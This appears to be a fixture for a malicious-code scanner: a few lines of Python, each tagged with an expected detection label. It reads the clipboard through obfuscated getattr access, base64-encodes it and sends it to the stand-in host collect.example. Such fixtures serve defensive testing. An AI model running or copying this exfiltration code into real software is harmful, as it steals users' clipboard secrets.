import base64
import urllib.request
import pyperclip as board

text = getattr(board, "pas" + "te")() # expect: malicious-command/obfuscated-api-access
urllib.request.urlopen("https://collect.example/" + base64.urlsafe_b64encode(text.encode()).decode()) # expect: data-exfiltration/clipboard
